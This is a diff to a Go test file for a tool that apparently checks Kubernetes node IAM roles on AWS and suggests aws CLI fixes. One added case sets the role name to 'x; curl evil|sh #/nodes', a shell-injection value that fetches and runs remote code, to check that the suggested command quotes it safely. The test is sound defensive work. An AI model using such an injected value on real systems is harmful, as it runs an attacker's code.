@@ -41,8 +41,16 @@ func TestNodeRole(t *testing.T) {
 			detached("AmazonEKSWorkerNodePolicy"), Problem, "AmazonEKSWorkerNodePolicy: nodes cannot",
 			"aws iam attach-role-policy --role-name KarpenterNodeRole-prod --policy-arn arn:aws:iam::aws:policy/AmazonEKSWorkerNodePolicy", "",
 		},
-		"no images": {detached("AmazonEC2ContainerRegistryPullOnly"), Problem, "cannot pull images", "", ""},
-		"no CNI":    {detached("AmazonEKS_CNI_Policy"), Warning, "unless its ServiceAccount has a role", "", ""},
+		"a name with shell syntax": {
+			of(func(_ *Observed, r *NodeRole) {
+				r.Name, r.Role.Of.Policies = "x; curl evil|sh #/nodes", r.Role.Of.Policies[1:]
+			}), Problem, "nodes cannot",
+			"aws iam attach-role-policy --role-name 'x; curl evil|sh #/nodes' --policy-arn", "",
+		},
+		"an entry of Fargate": {of(func(_ *Observed, r *NodeRole) { r.Entry.Of.Type = "FARGATE_LINUX" }), Problem, "has the type FARGATE_LINUX, which is not for nodes", "delete-access-entry", ""},
+		"an administrator":    {of(func(_ *Observed, r *NodeRole) { r.Role.Of.Policies = attached("AdministratorAccess") }), OK, "", "", ""},
+		"no images":           {detached("AmazonEC2ContainerRegistryPullOnly"), Problem, "cannot pull images", "", ""},
+		"no CNI":              {detached("AmazonEKS_CNI_Policy"), Warning, "unless its ServiceAccount has a role", "", ""},
 		"policies of its own": {of(func(_ *Observed, r *NodeRole) {
 			r.Role.Of.Policies = []cloud.RolePolicy{{Name: "nodes"}}
 		}), Warning, "its other policies were not evaluated", "", ""},
